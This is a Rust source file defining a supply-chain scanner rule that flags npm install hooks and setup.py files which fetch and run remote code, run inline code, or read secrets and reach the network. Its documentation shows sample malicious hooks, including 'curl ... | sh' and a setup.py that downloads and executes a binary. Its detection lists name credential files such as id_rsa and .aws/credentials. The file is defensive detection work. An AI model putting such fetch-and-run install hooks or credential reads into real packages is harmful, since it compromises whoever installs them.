use super::{line_of, place};
use hub_engine::{Context, Findings, Rule, declare_rule};
use hub_model::{Confidence, Severity};

declare_rule! {
    /// ## What it finds
    /// Code that runs while the package is installed and does more than build it: a script of the manifest (`preinstall`, `install`,
    /// `postinstall`), the file that such a script starts, or a `setup.py`, that fetches and runs code, runs code given on its command line, or
    /// reads what is private and reaches the network.
    /// ## Why it matters
    /// Installing is enough to run it, before anyone looks at a tool; it is where most malicious packages act.
    /// ## How to fix it
    /// Do the work when the package is built, and ship the result; install with scripts switched off.
    /// ```package.json vulnerable
    /// {"name": "example", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://files.example.net/setup.sh | sh"}}
    /// ```
    /// ```setup.py vulnerable
    /// import os, urllib.request
    /// from setuptools import setup
    /// urllib.request.urlretrieve("https://files.example.net/agent", "/tmp/agent")
    /// os.system("chmod +x /tmp/agent && /tmp/agent")
    /// setup(name="example")
    /// ```
    /// ```setup.py safe
    /// import subprocess
    /// from setuptools import setup
    /// version = subprocess.check_output(["git", "describe"], text=True)
    /// setup(name="example", version=version, url="https://github.com/example/example")
    /// ```
    /// ```package.json vulnerable
    /// {"name": "example", "version": "1.0.0", "scripts": {"postinstall": "node -e \"require('https').get('https://files.example.net/a', r => r.pipe(process.stdout))\""}}
    /// ```
    /// ```package.json safe
    /// {"name": "example", "version": "1.0.0", "scripts": {"postinstall": "node -e \"try { require('fs').chmodSync('./dist/index.js', '755') } catch (e) {}\""}}
    /// ```
    /// ```package.json safe
    /// {"name": "example", "version": "1.0.0", "scripts": {"build": "tsc", "prepare": "npm run build", "postinstall": "node-gyp rebuild"}}
    /// ```
    pub struct InstallScript {
        id: "install-script",
        title: "Code runs when the package is installed",
        category: SupplyChain,
        severity: Medium,
        classes: &["D04"],
        references: &["https://docs.npmjs.com/cli/using-npm/scripts", "https://cwe.mitre.org/data/definitions/506.html"],
    }
}

impl Rule for InstallScript {
    fn check(&self, cx: &Context<'_>, out: &mut Findings) {
        let Some(snapshot) = cx.snapshot else { return };
        for file in snapshot
            .files
            .iter()
            .filter(|f| f.path.file_name() == "setup.py" && !is_apart(&f.path))
        {
            if let Some((what, severity)) = judge_file(&file.text) {
                out.report(Self::META)
                    .at(place(&file.path, 1))
                    .evidence("setup.py")
                    .title(format!("`{}` {what}", file.path))
                    .severity(severity)
                    .confidence(Confidence::Medium)
                    .key("setup.py")
                    .add();
            }
        }
        for file in snapshot.files.iter().filter(|f| f.path.file_name() == "package.json") {
            let Ok(json) = serde_json::from_str::<serde_json::Value>(&file.text) else {
                continue;
            };
            if is_apart(&file.path) {
                continue;
            }
            for hook in ["preinstall", "install", "postinstall"] {
                let Some(command) = json.get("scripts").and_then(|s| s.get(hook)).and_then(serde_json::Value::as_str) else {
                    continue;
                };
                let started = started_file(command).map(|name| match file.path.parent() {
                    "" => name.to_owned(),
                    parent => format!("{parent}/{name}"),
                });
                let is_started = |path: &str, wanted: &str| {
                    let rest = path.strip_prefix(wanted);
                    rest.is_some_and(|rest| matches!(rest, "" | ".js" | ".cjs" | ".mjs" | "/index.js"))
                };
                let started = started.and_then(|wanted| snapshot.files.iter().find(|f| is_started(f.path.as_str(), &wanted)));
                let by_file = || {
                    let started = started?;
                    let (what, severity) = judge_file(&started.text)?;
                    Some((format!("starts `{}`, which {what}", started.path), severity))
                };
                let own = judge(command).map(|(what, severity)| (what.to_owned(), severity));
                let Some((what, severity)) = own.or_else(by_file) else { continue };
                let line = line_of(&file.text, &format!("\"{hook}\""));
                out.report(Self::META)
                    .at(place(&file.path, line))
                    .evidence(format!("\"{hook}\": \"{command}\""))
                    .title(format!("`{hook}` {what}"))
                    .severity(severity)
                    .confidence(Confidence::High)
                    .key(hook)
                    .add();
            }
        }
    }
}

/// What an install script does beyond building, and how bad that is.
fn judge(command: &str) -> Option<(&'static str, Severity)> {
    let c = command.to_ascii_lowercase();
    let fetches = ["curl ", "wget ", "invoke-webrequest", "iwr ", "irm "]
        .iter()
        .any(|w| c.contains(w));
    if fetches
        && ["| sh", "|sh", "| bash", "|bash", "| node", "| python", "iex", "$(curl", "chmod +x"]
            .iter()
            .any(|w| c.contains(w))
    {
        return Some(("downloads and runs a script", Severity::Medium));
    }
    if c.contains("powershell -e") || c.contains("base64 -d") || inline_code(command).is_some_and(|code| !is_plain(code)) {
        return Some(("runs code given on its command line", Severity::Medium));
    }
    if fetches {
        return Some(("downloads something", Severity::Low));
    }
    None
}

/// The code that a command hands to an interpreter itself.
fn inline_code(command: &str) -> Option<&str> {
    const FLAGS: &[&str] = &["node -e", "node --eval", "node -p", "bun -e", "python -c", "python3 -c"];
    let starts = FLAGS.iter().filter_map(|flag| command.find(flag).map(|at| at + flag.len()));
    command.get(starts.min()?..)
}

/// Whether code does no more than put files in order or start a file of the package, which is judged itself.
fn is_plain(code: &str) -> bool {
    const MODULES: &[&str] = &[
        "fs",
        "fs/promises",
        "path",
        "os",
        "process",
        "url",
        "shutil",
        "pathlib",
        "sys",
        "stat",
    ];
    const BEYOND: &[&str] = &[
        "eval",
        "Function",
        "atob",
        "fromCharCode",
        "base64",
        "b64",
        "fetch",
        "exec",
        "spawn",
        "os.system",
        "popen",
        "import(",
        "\\x",
        "env",
    ];
    let taken = code
        .split("require(")
        .skip(1)
        .map(|rest| rest.trim_start_matches(['"', '\'', '`', '\\', ' ']));
    let taken = taken.map(|rest| rest.split(['"', '\'', '`', '\\', ')']).next().unwrap_or_default());
    let imported = code.split("import ").skip(1).flat_map(|rest| {
        let end = rest.find([';', '\n', '"']).unwrap_or(rest.len());
        rest[..end].split(',').map(str::trim)
    });
    let is_known = |module: &str| {
        let module = module.strip_prefix("node:").unwrap_or(module);
        MODULES.contains(&module) || module.starts_with("./")
    };
    taken.chain(imported).all(is_known) && !BEYOND.iter().any(|w| code.contains(w))
}

fn is_apart(path: &hub_model::RelPath) -> bool {
    path.as_str()
        .split('/')
        .any(|p| matches!(p, "test" | "tests" | "examples" | "fixtures" | "node_modules"))
}

/// The file of the package that a command starts: `node scripts/x.js`, `python setup/x.py`, `sh ./x.sh`.
fn started_file(command: &str) -> Option<&str> {
    // `node -e "require('./postinstall')"`
    if let Some(rest) = inline_code(command)
        .and_then(|code| code.split_once("require("))
        .map(|(_, rest)| rest)
    {
        let rest = rest.trim_start_matches(['"', '\'', '`', '\\', ' ']).strip_prefix("./")?;
        return rest.split(['"', '\'', '`', '\\', ')']).next();
    }
    let mut words = command.split([' ', ';', '&', '|']).filter(|w| !w.is_empty());
    while let Some(word) = words.next() {
        if matches!(word, "node" | "python" | "python3" | "sh" | "bash" | "bun" | "tsx") {
            return words.next().filter(|w| !w.starts_with('-')).map(|w| w.trim_start_matches("./"));
        }
    }
    None
}

/// What a file that runs at installation does beside building: by the words of its libraries, comments left out.
fn judge_file(text: &str) -> Option<(&'static str, Severity)> {
    let code: Vec<&str> = text
        .lines()
        .take(20_000)
        .filter(|l| !l.trim_start().starts_with(['#', '*']) && !l.trim_start().starts_with("//"))
        .collect();
    let has = |words: &[&str]| code.iter().any(|l| words.iter().any(|w| l.contains(w)));
    let fetches = has(&[
        "fetch(",
        "https.get(",
        "http.get(",
        "https.request(",
        "axios.",
        "axios(",
        "got(",
        "urlopen(",
        "urlretrieve(",
        "requests.get(",
        "requests.post(",
        "httpx.",
        "socket.socket(",
        "curl ",
        "wget ",
        "net.connect(",
        "net.Socket(",
        "dns.lookup(",
        "dns.resolve",
    ]);
    let runs = has(&[
        "exec(",
        "execSync(",
        "spawn(",
        "spawnSync(",
        "execFile",
        "os.system(",
        "subprocess.",
        "os.popen(",
        "eval(",
        "exec_module(",
    ]);
    let private = has(&[
        "JSON.stringify(process.env",
        "Object.entries(process.env",
        "Object.keys(process.env",
        "dict(os.environ",
        "os.environ.items(",
        ".npmrc",
        ".ssh/",
        "id_rsa",
        ".aws/credentials",
        ".git-credentials",
        "/etc/passwd",
    ]);
    match (fetches, runs, private) {
        (true, _, true) => Some(("reads what is private and reaches the network", Severity::Medium)),
        (true, true, false) => Some(("reaches the network and runs programs", Severity::Low)),
        _ => None,
    }
}
